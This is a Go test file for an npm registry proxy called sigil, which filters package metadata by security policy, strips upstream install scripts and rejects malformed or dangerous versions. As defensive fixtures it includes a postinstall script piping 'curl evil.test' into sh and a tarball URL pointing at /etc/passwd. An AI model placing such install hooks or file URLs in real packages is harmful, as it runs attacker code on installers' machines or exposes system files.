package npm

import (
	"bytes"
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"testing"

	"github.com/sigilproxy/sigil/policy"
	"github.com/sigilproxy/sigil/proxy"
	"github.com/sigilproxy/sigil/proxy/internal/fronttest"
	"github.com/sigilproxy/sigil/release"
)

// fooDoc is foo with three versions; 2.0.0 is latest, 2.1.0-beta.1 next.
// The integrity of 1.1.0 is written with a JSON escape, which must reach
// npm as written.
func fooDoc() []byte {
	return packumentDoc("foo", map[string]string{"latest": "2.0.0", "next": "2.1.0-beta.1", "old": "1.0.0"},
		ver{v: "1.0.0", deps: `{"bar":"^1.0.0"}`},
		ver{v: "1.1.0", deps: `{"bar":"^1.1.0"}`, integrity: `sha512-AAAA\/BBBB==`, sigs: `[{"keyid":"SHA256:x","sig":"MEUCIQ=="}]`},
		ver{v: "2.0.0", deps: `{"bar":"^2.0.0"}`, extra: `"scripts":{"postinstall":"node x.js","test":"t"},"deprecated":"use 3"`},
		ver{v: "2.1.0-beta.1"},
	)
}

func TestPackumentFilterFull(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/foo", fooDoc())
	r.checker.set("2.0.0", policy.Block, "foo@2.0.0: no valid release statement")
	r.checker.set("1.1.0", policy.Warn, "foo@1.1.0: the package is unsigned")
	resp, body := r.Get("/npm/foo")
	if resp.StatusCode != 200 {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("Content-Type %q", ct)
	}
	if r.checker.Calls != 1 {
		t.Errorf("checker called %d times, want once per packument", r.checker.Calls)
	}
	facts := r.checker.Facts[0]
	if len(facts) != 4 {
		t.Fatalf("facts %+v", facts)
	}
	wantManifest, err := release.MetadataManifestDigest(release.NPM, []byte(`{"name":"foo","dependencies":{"bar":"^1.1.0"}}`))
	if err != nil {
		t.Fatal(err)
	}
	if f := facts[1]; f.Ecosystem != release.NPM || f.Package != "foo" || f.Version != "1.1.0" ||
		f.Manifest != wantManifest || f.ManifestErr != nil || f.Integrity != `sha512-AAAA/BBBB==` ||
		f.ArchiveURL != upstreamBase+"/foo/-/foo-1.1.0.tgz" || f.Source != "" {
		t.Errorf("facts[1] = %+v", f)
	}

	doc := fronttest.DecodeObject(t, body)
	if got := keysOf(doc["versions"]); !reflect.DeepEqual(got, []string{"1.0.0", "1.1.0", "2.1.0-beta.1"}) {
		t.Errorf("versions %v", got)
	}
	times := doc["time"].(map[string]any)
	if _, ok := times["2.0.0"]; ok || times["1.0.0"] == nil || times["modified"] == nil {
		t.Errorf("time %v", times)
	}
	tags := doc["dist-tags"].(map[string]any)
	if !reflect.DeepEqual(tags, map[string]any{"latest": "1.1.0", "next": "2.1.0-beta.1", "old": "1.0.0"}) {
		t.Errorf("dist-tags %v", tags)
	}
	for _, k := range []string{"stagedVersions", "_attachments"} {
		if _, ok := doc[k]; ok {
			t.Errorf("%s served", k)
		}
	}
	if doc["readme"] != "# hello" || doc["maintainers"] == nil {
		t.Errorf("top-level members lost: %v", keysOf(doc))
	}
	pr := doc["policyRestrictions"].(map[string]any)
	if got := keysOf(pr["versions"]); !reflect.DeepEqual(got, []string{"2.0.0"}) {
		t.Errorf("policyRestrictions.versions %v", got)
	}
	if e := pr["versions"].(map[string]any)["2.0.0"]; !reflect.DeepEqual(e, map[string]any{"name": "foo", "version": "2.0.0"}) {
		t.Errorf("restricted entry %v: want only name and version", e)
	}
	if msg := pr["message"].(string); !strings.Contains(msg, "foo@2.0.0: no valid release statement") || !strings.HasPrefix(msg, "sigil blocked 1 version of foo") {
		t.Errorf("message %q", msg)
	}
	v11 := doc["versions"].(map[string]any)["1.1.0"].(map[string]any)
	if v11["description"] != "version 1.1.0" || v11["_npmUser"] == nil {
		t.Errorf("version members lost: %v", keysOf(v11))
	}
	dist := v11["dist"].(map[string]any)
	if dist["tarball"] != r.Srv.URL+"/npm/foo/-/foo-1.1.0.tgz" {
		t.Errorf("tarball %v", dist["tarball"])
	}
	// Byte for byte: integrity with its escape, signatures as written.
	for _, raw := range []string{`"integrity":"sha512-AAAA\/BBBB=="`, `"signatures":[{"keyid":"SHA256:x","sig":"MEUCIQ=="}]`, `"shasum":"0000000000000000000000000000000000000001"`} {
		if !bytes.Contains(body, []byte(raw)) {
			t.Errorf("served document lacks %s", raw)
		}
	}
	if bytes.Contains(body, []byte(upstreamBase)) {
		t.Error("an upstream tarball URL is served in mirror mode")
	}

	if h := resp.Header.Get("X-Sigil-Verdict"); !strings.HasPrefix(h, "enforce; blocked=1; warned=1; foo@1.1.0: the package is unsigned; foo@2.0.0") {
		t.Errorf("X-Sigil-Verdict %q", h)
	}
	if n := resp.Header.Get("npm-notice"); !strings.HasPrefix(n, "sigil: foo: 1 version blocked, 1 served with warnings; foo@1.1.0: the package is unsigned (and 1 more") {
		t.Errorf("npm-notice %q", n)
	}
	if cc := resp.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q: npm prints npm-notice only from responses it does not store", cc)
	}
	if v := resp.Header.Get("Vary"); v != "Accept" {
		t.Errorf("Vary %q", v)
	}
	if got := r.up.URLs(); !reflect.DeepEqual(got, []string{upstreamBase + "/foo"}) {
		t.Errorf("upstream asked %v", got)
	}
}

func TestPackumentAllowed(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/foo", fooDoc())
	resp, body := r.Get("/npm/foo")
	if resp.StatusCode != 200 {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	for _, h := range []string{"X-Sigil-Verdict", "npm-notice"} {
		if v := resp.Header.Get(h); v != "" {
			t.Errorf("%s %q on a clean packument", h, v)
		}
	}
	if cc := resp.Header.Get("Cache-Control"); cc != "no-cache" {
		t.Errorf("Cache-Control %q", cc)
	}
	doc := fronttest.DecodeObject(t, body)
	if _, ok := doc["policyRestrictions"]; ok {
		t.Error("policyRestrictions without a blocked version")
	}
	if len(keysOf(doc["versions"])) != 4 {
		t.Errorf("versions %v", keysOf(doc["versions"]))
	}
}

func TestPackumentAbbreviated(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/foo", fooDoc())
	r.checker.set("1.0.0", policy.Block, "foo@1.0.0: blocked")
	resp, body := r.Get("/npm/foo", corgiAccept)
	if resp.StatusCode != 200 {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/vnd.npm.install-v1+json" {
		t.Errorf("Content-Type %q", ct)
	}
	doc := fronttest.DecodeObject(t, body)
	if got := keysOf(doc); !reflect.DeepEqual(got, []string{"dist-tags", "modified", "name", "policyRestrictions", "versions"}) {
		t.Errorf("top-level %v", got)
	}
	if doc["modified"] != "2024-02-01T00:00:00.000Z" || doc["name"] != "foo" {
		t.Errorf("name, modified = %v, %v", doc["name"], doc["modified"])
	}
	if tags := doc["dist-tags"].(map[string]any); tags["old"] != nil || tags["latest"] != "2.0.0" {
		t.Errorf("dist-tags %v: old names a blocked version with nothing below it", tags)
	}
	vs := doc["versions"].(map[string]any)
	if got := keysOf(vs); !reflect.DeepEqual(got, []string{"1.1.0", "2.0.0", "2.1.0-beta.1"}) {
		t.Errorf("versions %v", got)
	}
	v2 := vs["2.0.0"].(map[string]any)
	if got := keysOf(v2); !reflect.DeepEqual(got, []string{"dependencies", "deprecated", "dist", "hasInstallScript", "name", "version"}) {
		t.Errorf("abbreviated version members %v", got)
	}
	if v2["hasInstallScript"] != true {
		t.Error("hasInstallScript not derived from scripts.postinstall")
	}
	if _, ok := vs["1.1.0"].(map[string]any)["hasInstallScript"]; ok {
		t.Error("hasInstallScript without an install script")
	}
	if !bytes.Contains(body, []byte(`"integrity":"sha512-AAAA\/BBBB=="`)) {
		t.Error("abbreviated form changed an integrity")
	}
	if r.checker.Calls != 1 || len(r.checker.Facts[0]) != 4 {
		t.Errorf("checker calls %d", r.checker.Calls)
	}

	// The two forms keep their own validators.
	full, _ := r.Get("/npm/foo")
	if full.Header.Get("ETag") == resp.Header.Get("ETag") {
		t.Error("full and abbreviated forms share an ETag")
	}
	// The same upstream document served both.
	for _, u := range r.up.URLs() {
		if u != upstreamBase+"/foo" {
			t.Errorf("asked upstream for %s", u)
		}
	}
}

func TestWantsAbbreviated(t *testing.T) {
	for accept, want := range map[string]bool{
		"application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*": true,
		"application/vnd.npm.install-v1+json":                                      true,
		"Application/Vnd.Npm.Install-V1+Json;Q=0.5":                                true,
		"application/vnd.npm.install-v1+json; q=0":                                 false,
		"application/vnd.npm.install-v1+json;q=0.0":                                false,
		"application/json": false,
		"*/*":              false,
		"":                 false,
	} {
		if got := wantsAbbreviated([]string{accept}); got != want {
			t.Errorf("wantsAbbreviated(%q) = %v", accept, got)
		}
	}
}

func TestScopedNames(t *testing.T) {
	r := newRig(t)
	doc := packumentDoc("@acme/foo", map[string]string{"latest": "1.0.0"}, ver{v: "1.0.0"})
	r.up.Set(upstreamBase+"/@acme%2ffoo", doc)
	tgz := []byte("scoped tarball")
	r.checker.Archives[upstreamBase+"/@acme/foo/-/foo-1.0.0.tgz"] = tgz
	for _, path := range []string{"/npm/@acme%2ffoo", "/npm/@acme%2Ffoo", "/npm/@acme/foo", "/npm/%40acme%2ffoo"} {
		resp, body := r.Get(path)
		if resp.StatusCode != 200 {
			t.Fatalf("%s: status %d: %s", path, resp.StatusCode, body)
		}
		d := fronttest.DecodeObject(t, body)
		dist := d["versions"].(map[string]any)["1.0.0"].(map[string]any)["dist"].(map[string]any)
		if want := r.Srv.URL + "/npm/@acme/foo/-/foo-1.0.0.tgz"; dist["tarball"] != want {
			t.Errorf("%s: tarball %v, want %s", path, dist["tarball"], want)
		}
	}
	if f := r.checker.Facts[0][0]; f.Package != "@acme/foo" {
		t.Errorf("package %q: statements name scoped packages as published", f.Package)
	}
	for _, u := range r.up.URLs() {
		if u != upstreamBase+"/@acme%2ffoo" {
			t.Errorf("asked upstream for %s, want npm's escaped name", u)
		}
	}
	for _, path := range []string{"/npm/@acme/foo/-/foo-1.0.0.tgz", "/npm/@acme%2ffoo/-/foo-1.0.0.tgz"} {
		resp, body := r.Get(path)
		if resp.StatusCode != 200 || !bytes.Equal(body, tgz) {
			t.Errorf("%s: status %d, %q", path, resp.StatusCode, body)
		}
	}
}

func TestDistTagsMove(t *testing.T) {
	cands := func(vs ...string) []string {
		w := &writer{p: &packument{}}
		for _, v := range vs {
			w.p.versions = append(w.p.versions, version{key: v})
			w.ds = append(w.ds, decided{served: true})
		}
		return w.servedBySemver()
	}
	served := cands("1.0.0", "1.2.0", "1.10.0", "2.0.0-rc.1", "3.0.0", "2.0.0-beta.2", "not-semver", "1.2", "01.0.0")
	if !reflect.DeepEqual(served, []string{"v3.0.0", "v2.0.0-rc.1", "v2.0.0-beta.2", "v1.10.0", "v1.2.0", "v1.0.0"}) {
		t.Fatalf("servedBySemver = %v", served)
	}
	for _, c := range []struct {
		from, to string
	}{
		{"2.0.0", "1.10.0"},          // below, never the newer 3.0.0; releases only
		{"1.11.0", "1.10.0"},         // 1.10 > 1.2: precedence, not strings
		{"2.0.0-rc.2", "2.0.0-rc.1"}, // a prerelease tag may move to a prerelease
		{"2.0.0-beta.1", "1.10.0"},   // below every served prerelease of 2.0.0
		{"1.0.0", ""},                // nothing below: the tag goes
		{"1.0.0+build.2", ""},        // build metadata has no precedence
		{"not-semver", ""},           // nothing to compare with
		{"4.0.0-alpha", "3.0.0"},
	} {
		to, ok := moveTag(c.from, served)
		if (c.to == "") == ok || to != c.to {
			t.Errorf("moveTag(%s) = %q, %v; want %q", c.from, to, ok, c.to)
		}
	}
}

func TestPolicyRestrictionsBounded(t *testing.T) {
	r := newRig(t)
	var vs []ver
	for i := range 30 {
		v := fmt.Sprintf("1.0.%d", i)
		vs = append(vs, ver{v: v})
		r.checker.set(v, policy.Block, "foo@"+v+": blocked for the test")
	}
	r.up.Set(upstreamBase+"/foo", packumentDoc("foo", map[string]string{"latest": "1.0.29"}, vs...))
	_, body := r.Get("/npm/foo")
	doc := fronttest.DecodeObject(t, body)
	pr := doc["policyRestrictions"].(map[string]any)
	msg := pr["message"].(string)
	lines := strings.Split(msg, "\n")
	if len(lines) != 1+maxNotices+1 || !strings.Contains(lines[1], "foo@1.0.29:") || !strings.Contains(lines[len(lines)-1], "and 10 more") {
		t.Errorf("message of %d lines:\n%s", len(lines), msg)
	}
	if n := len(keysOf(pr["versions"])); n != 30 {
		t.Errorf("%d restricted versions, want all 30", n)
	}
	if len(keysOf(doc["versions"])) != 0 || len(keysOf(doc["dist-tags"])) != 0 {
		t.Errorf("versions %v, dist-tags %v", keysOf(doc["versions"]), keysOf(doc["dist-tags"]))
	}
}

func TestWarnMode(t *testing.T) {
	r := newRig(t, withMode(policy.ModeWarn))
	r.up.Set(upstreamBase+"/foo", fooDoc())
	for _, v := range []string{"1.0.0", "1.1.0", "2.0.0", "2.1.0-beta.1"} {
		r.checker.set(v, policy.Warn, "foo@"+v+": would be blocked: no statement")
	}
	resp, body := r.Get("/npm/foo")
	doc := fronttest.DecodeObject(t, body)
	if len(keysOf(doc["versions"])) != 4 || doc["policyRestrictions"] != nil {
		t.Errorf("warn mode dropped versions: %v", keysOf(doc["versions"]))
	}
	if tags := doc["dist-tags"].(map[string]any); tags["latest"] != "2.0.0" {
		t.Errorf("dist-tags moved in warn mode: %v", tags)
	}
	if h := resp.Header.Get("X-Sigil-Verdict"); !strings.HasPrefix(h, "warn; blocked=0; warned=4; foo@1.0.0: would be blocked") {
		t.Errorf("X-Sigil-Verdict %q", h)
	}
	if n := resp.Header.Get("npm-notice"); !strings.HasPrefix(n, "sigil: foo: 4 served with warnings; foo@1.0.0: would be blocked: no statement (and 3 more") {
		t.Errorf("npm-notice %q", n)
	}
}

func TestConditionalRequests(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/foo", fooDoc())
	first, body := r.Get("/npm/foo")
	etag, lm := first.Header.Get("ETag"), first.Header.Get("Last-Modified")
	if etag == "" || lm == "" {
		t.Fatalf("ETag %q, Last-Modified %q", etag, lm)
	}
	if resp, b := r.Get("/npm/foo", "If-None-Match: "+etag); resp.StatusCode != http.StatusNotModified || len(b) != 0 {
		t.Errorf("If-None-Match: status %d", resp.StatusCode)
	}
	if resp, _ := r.Get("/npm/foo", "If-Modified-Since: "+lm); resp.StatusCode != http.StatusNotModified {
		t.Errorf("If-Modified-Since: status %d", resp.StatusCode)
	}
	// A verdict changes: the bytes, the ETag and Last-Modified move.
	r.checker.set("1.0.0", policy.Block, "foo@1.0.0: revoked")
	resp, body2 := r.Get("/npm/foo", "If-None-Match: "+etag, "If-Modified-Since: "+lm)
	if resp.StatusCode != 200 || bytes.Equal(body, body2) {
		t.Fatalf("after a verdict change: status %d", resp.StatusCode)
	}
	t1, _ := http.ParseTime(lm)
	t2, _ := http.ParseTime(resp.Header.Get("Last-Modified"))
	if resp.Header.Get("ETag") == etag || !t2.After(t1) {
		t.Errorf("validators did not move: %s %v → %s %v", etag, t1, resp.Header.Get("ETag"), t2)
	}
}

func TestInvalidNamesAndRoutes(t *testing.T) {
	r := newRig(t)
	for _, path := range []string{
		"/npm/", "/npm/.hidden", "/npm/_private", "/npm/node_modules", "/npm/a%2fb", "/npm/@acme",
		"/npm/@acme%2f", "/npm/@%2ffoo", "/npm/foo%20bar", "/npm/" + strings.Repeat("a", 215),
		"/npm/foo/1.0.0", "/npm/foo/-/bar-1.0.0.tgz", "/npm/foo/-/foo-1.0.0.zip", "/npm/foo/-/foo-.tgz",
		"/npm/foo/-/foo-1.0.0%2f..%2fx.tgz", "/npm/-/whoami", "/npm/-/v1/search", "/other/foo", "/npmfoo",
	} {
		resp, body := r.Get(path)
		if resp.StatusCode != http.StatusNotFound || resp.Header.Get("Content-Type") != "application/json" {
			t.Errorf("%s: status %d %q", path, resp.StatusCode, body)
		}
	}
	for _, c := range []struct{ method, path string }{
		{"PUT", "/npm/foo"}, {"DELETE", "/npm/foo/-rev/1-abc"}, {"PUT", "/npm/-/package/foo/dist-tags/latest"},
		{"PUT", "/npm/-/user/org.couchdb.user:ann"}, {"POST", "/npm/-/v1/login"}, {"POST", "/npm/foo"},
		{"POST", "/npm/-/npm/v1/keys"},
	} {
		resp, body := r.Do(c.method, c.path, strings.NewReader("{}"))
		if resp.StatusCode != http.StatusMethodNotAllowed || !bytes.Contains(body, []byte(`"error"`)) {
			t.Errorf("%s %s: status %d %s", c.method, c.path, resp.StatusCode, body)
		}
	}
	if got := r.up.URLs(); len(got) != 0 {
		t.Errorf("the upstream was asked %v", got)
	}
	if r.checker.Calls != 0 || len(r.checker.ArchFacts) != 0 {
		t.Error("the checker was asked")
	}
	// An unknown package: the upstream's 404, as the registry words it.
	resp, body := r.Get("/npm/nope")
	if resp.StatusCode != 404 || string(body) != "{\"error\":\"Not found\"}\n" {
		t.Errorf("unknown package: %d %s", resp.StatusCode, body)
	}
}

func TestMalformedUpstream(t *testing.T) {
	r := newRig(t)
	for name, doc := range map[string]string{
		"notjson":  `{"name":"notjson",`,
		"badutf":   "{\"name\":\"badutf\",\"x\":\"\xff\"}",
		"other":    `{"name":"someone-else","versions":{}}`,
		"list":     `[]`,
		"versions": `{"name":"versions","versions":[1]}`,
	} {
		r.up.Set(upstreamBase+"/"+name, doc)
		resp, body := r.Get("/npm/" + name)
		if resp.StatusCode != http.StatusBadGateway || !bytes.Contains(body, []byte(`"error":"sigil could not serve the metadata of `+name)) {
			t.Errorf("%s: %d %s", name, resp.StatusCode, body)
		}
	}
	r.up.Errs[upstreamBase+"/down"] = &proxy.UpstreamError{URL: upstreamBase + "/down", Status: 503}
	if resp, _ := r.Get("/npm/down"); resp.StatusCode != http.StatusBadGateway {
		t.Errorf("upstream down: %d", resp.StatusCode)
	}
}

func TestMalformedVersionsDropped(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/foo", `{"name":"foo","dist-tags":{"latest":"1.0.3","bad":7},"versions":{
		"1.0.0":{"name":"foo","version":"1.0.0","dist":{"tarball":"`+upstreamBase+`/foo/-/foo-1.0.0.tgz"}},
		"1.0.1":{"name":"evil","version":"1.0.1","dist":{"tarball":"`+upstreamBase+`/foo/-/foo-1.0.1.tgz"}},
		"1.0.2":{"name":"foo","version":"1.0.9","dist":{"tarball":"`+upstreamBase+`/foo/-/foo-1.0.2.tgz"}},
		"1.0.3":{"name":"foo","version":"1.0.3","dist":{"tarball":"file:///etc/passwd"}},
		"1.0.4":{"name":"foo","version":"1.0.4"},
		"1.0.5":{"name":"foo","version":"1.0.5","dist":{"tarball":"`+upstreamBase+`/a.tgz","integrity":5}},
		"1.0.6":"nope",
		"1.0.0":{"name":"foo","version":"1.0.0","dist":{"tarball":"`+upstreamBase+`/foo/-/foo-1.0.0-last.tgz"}}
	}}`)
	resp, body := r.Get("/npm/foo")
	if resp.StatusCode != 200 {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	doc := fronttest.DecodeObject(t, body)
	if got := keysOf(doc["versions"]); !reflect.DeepEqual(got, []string{"1.0.0"}) {
		t.Errorf("versions %v", got)
	}
	// The last of duplicate names wins, as in JSON.parse.
	if f := r.checker.Facts[0]; len(f) != 1 || f[0].ArchiveURL != upstreamBase+"/foo/-/foo-1.0.0-last.tgz" {
		t.Errorf("facts %+v", f)
	}
	if tags := doc["dist-tags"].(map[string]any); !reflect.DeepEqual(tags, map[string]any{"latest": "1.0.0"}) {
		t.Errorf("dist-tags %v", tags)
	}
	msg := doc["policyRestrictions"].(map[string]any)["message"].(string)
	for _, want := range []string{`names package "evil"`, `names version "1.0.9"`, "not an http or https URL", "no dist object", "dist.integrity is a number", "is a string, not an object"} {
		if !strings.Contains(msg, want) {
			t.Errorf("message lacks %q:\n%s", want, msg)
		}
	}
	if resp.Header.Get("X-Sigil-Verdict") == "" {
		t.Error("no X-Sigil-Verdict for dropped versions")
	}
}

func TestCheckerContractViolation(t *testing.T) {
	r := newRig(t)
	r.up.Set(upstreamBase+"/foo", fooDoc())
	r.checker.Short = true
	_, body := r.Get("/npm/foo")
	doc := fronttest.DecodeObject(t, body)
	if n := len(keysOf(doc["versions"])); n != 0 {
		t.Errorf("%d versions served after a broken Checker", n)
	}
}

func TestForwardKeepsTarballURLs(t *testing.T) {
	r := newRig(t, func(c *Config) { c.Forward = true; c.Prefix = "/" })
	r.up.Set(upstreamBase+"/foo", fooDoc())
	_, body := r.Get("/foo")
	doc := fronttest.DecodeObject(t, body)
	dist := doc["versions"].(map[string]any)["1.0.0"].(map[string]any)["dist"].(map[string]any)
	if dist["tarball"] != upstreamBase+"/foo/-/foo-1.0.0.tgz" {
		t.Errorf("tarball %v in forward mode", dist["tarball"])
	}
	r.checker.Archives[upstreamBase+"/foo/-/foo-1.0.0.tgz"] = []byte("t")
	if resp, b := r.Get("/foo/-/foo-1.0.0.tgz"); resp.StatusCode != 200 || string(b) != "t" {
		t.Errorf("tarball at the upstream's path: %d %s", resp.StatusCode, b)
	}
}

func TestNewChecksConfig(t *testing.T) {
	up := fronttest.NewUpstream()
	ok := mustURL(upstreamBase)
	for name, cfg := range map[string]Config{
		"no url":      {Upstream: up, Checker: newFakeChecker()},
		"ftp":         {UpstreamURL: mustURL("ftp://x.test"), Upstream: up, Checker: newFakeChecker()},
		"no checker":  {UpstreamURL: ok, Upstream: up},
		"prefix":      {UpstreamURL: ok, Upstream: up, Checker: newFakeChecker(), Prefix: "npm/"},
		"public":      {UpstreamURL: ok, Upstream: up, Checker: newFakeChecker(), PublicURL: "http://x.test/path"},
		"sigs":        {UpstreamURL: ok, Upstream: up, Checker: newFakeChecker(), RegistrySignatures: "sometimes"},
		"query in up": {UpstreamURL: mustURL(upstreamBase + "/?x=1"), Upstream: up, Checker: newFakeChecker()},
	} {
		if _, err := New(cfg); err == nil {
			t.Errorf("%s: New accepted %+v", name, cfg)
		}
	}
	var m SignatureMode
	if err := m.UnmarshalText([]byte("require")); err != nil || m != SignaturesRequire {
		t.Errorf("UnmarshalText(require) = %v, %q", err, m)
	}
	if err := m.UnmarshalText([]byte("on")); err == nil {
		t.Error("UnmarshalText(on) succeeded")
	}
}

func TestHasInstallScript(t *testing.T) {
	for raw, want := range map[string]bool{
		`{"scripts":{"postinstall":"node x.js"}}`:                      true,
		`{"scripts":{"build":"tsc","install":"node-gyp rebuild"}}`:     true,
		`{"scripts":{"install":"x","install":""}}`:                     false, // the last wins
		`{"scripts":{"install":"","install":"x"}}`:                     true,
		`{"scripts":{"preinstall":1,"install":null,"postinstall":[]}}`: false,
		`{"scripts":{"test":"node --test"}}`:                           false,
		`{"scripts":[]}`:                                               false,
		`{"scripts":{"install":"x"},"hasInstallScript":false}`:         false, // the version says it itself
		`{"scripts":{"\u0069nstall":"\u0078"}}`:                        true,
		`{"scripts":{"postinst\u0061ll":"x"}}`:                         true,
		`{"scripts":{"setup":"npm install"}}`:                          false,
	} {
		o, err := parseObject([]byte(raw))
		if err != nil {
			t.Fatal(err)
		}
		if got := hasInstallScript(o); got != want {
			t.Errorf("%s: %v, want %v", raw, got, want)
		}
	}
}

// TestServedStateNotPerHost: without PublicURL, packuments carry the
// request's host, but a client that sends many Host headers must not make
// sigil store a record per header.
func TestServedStateNotPerHost(t *testing.T) {
	keys := &fronttest.ServedKeys{}
	r := newRig(t, func(c *Config) { c.PublicURL, c.Served = "", keys })
	r.up.Set(upstreamBase+"/foo", packumentDoc("foo", map[string]string{"latest": "1.0.0"}, ver{v: "1.0.0"}))
	fronttest.GetWithHosts(t, r.h, "/npm/foo", 5000)
	if n := keys.Len(); n != 1 {
		t.Errorf("5,000 requests with distinct Host headers stored %d served-state records, want 1", n)
	}
}

// TestPackumentAllowlist: served packuments keep identity, the manifest's
// fields, sigil's dist and informational members; never the packument's
// scripts (npm runs the verified tarball's instead, told by
// hasInstallScript) nor anything else the upstream adds.
func TestPackumentAllowlist(t *testing.T) {
	r := newRig(t)
	doc := `{"name":"foo","_rev":"1-a","users":{"x":true},"x-evil":1,"readme":"hi",
		"dist-tags":{"latest":"1.0.0"},"time":{"1.0.0":"2020-01-01T00:00:00.000Z"},
		"versions":{"1.0.0":{"name":"foo","version":"1.0.0","main":"index.js","gypfile":true,
			"scripts":{"postinstall":"curl evil.test|sh"},"dependencies":{"bar":"^1"},"libc":["glibc"],
			"deprecated":"old","gitHead":"abc","description":"d",
			"dist":{"tarball":"` + upstreamBase + `/foo/-/foo-1.0.0.tgz","integrity":"sha512-AA==","npm-signature":"pgp","fileCount":3}}}}`
	r.up.Set(upstreamBase+"/foo", doc)
	for _, tc := range []struct {
		accept  string
		top, v  []string
		distKey []string
	}{
		{"application/json",
			[]string{"dist-tags", "name", "readme", "time", "versions"},
			[]string{"dependencies", "deprecated", "description", "dist", "hasInstallScript", "libc", "name", "version"},
			[]string{"fileCount", "integrity", "tarball"}},
		{typeAbbreviated,
			[]string{"dist-tags", "name", "versions"},
			[]string{"dependencies", "deprecated", "dist", "hasInstallScript", "libc", "name", "version"},
			[]string{"fileCount", "integrity", "tarball"}},
	} {
		_, body := r.Get("/npm/foo", "Accept: "+tc.accept)
		d := fronttest.DecodeObject(t, body)
		if got := keysOf(d); !reflect.DeepEqual(got, tc.top) {
			t.Errorf("%s: top-level %v, want %v", tc.accept, got, tc.top)
		}
		v := d["versions"].(map[string]any)["1.0.0"].(map[string]any)
		if got := keysOf(v); !reflect.DeepEqual(got, tc.v) {
			t.Errorf("%s: version members %v, want %v", tc.accept, got, tc.v)
		}
		if v["hasInstallScript"] != true {
			t.Errorf("%s: hasInstallScript %v, want true (npm then reads the tarball's scripts)", tc.accept, v["hasInstallScript"])
		}
		if got := keysOf(v["dist"]); !reflect.DeepEqual(got, tc.distKey) {
			t.Errorf("%s: dist %v, want %v", tc.accept, got, tc.distKey)
		}
	}
}

// TestPackumentShrinkwrap: "_hasShrinkwrap" is served only as true, and
// only with the fact that makes policy check it against the tarball.
func TestPackumentShrinkwrap(t *testing.T) {
	r := newRig(t)
	doc := `{"name":"foo","dist-tags":{"latest":"1.0.2"},"versions":{
		"1.0.0":{"name":"foo","version":"1.0.0","_hasShrinkwrap":true,"dist":{"tarball":"` + upstreamBase + `/foo/-/foo-1.0.0.tgz"}},
		"1.0.1":{"name":"foo","version":"1.0.1","_hasShrinkwrap":"yes","dist":{"tarball":"` + upstreamBase + `/foo/-/foo-1.0.1.tgz"}},
		"1.0.2":{"name":"foo","version":"1.0.2","_hasShrinkwrap":false,"dist":{"tarball":"` + upstreamBase + `/foo/-/foo-1.0.2.tgz"}}}}`
	r.up.Set(upstreamBase+"/foo", doc)
	for _, accept := range []string{"application/json", typeAbbreviated} {
		_, body := r.Get("/npm/foo", "Accept: "+accept)
		vs := fronttest.DecodeObject(t, body)["versions"].(map[string]any)
		for v, want := range map[string]any{"1.0.0": true, "1.0.1": nil, "1.0.2": nil} {
			if got := vs[v].(map[string]any)["_hasShrinkwrap"]; got != want {
				t.Errorf("%s: %s served _hasShrinkwrap %v, want %v", accept, v, got, want)
			}
		}
	}
	for _, f := range r.checker.Facts[0] {
		if want := f.Version == "1.0.0"; f.Shrinkwrap != want {
			t.Errorf("%s: Shrinkwrap fact %v, want %v", f.Version, f.Shrinkwrap, want)
		}
	}
}
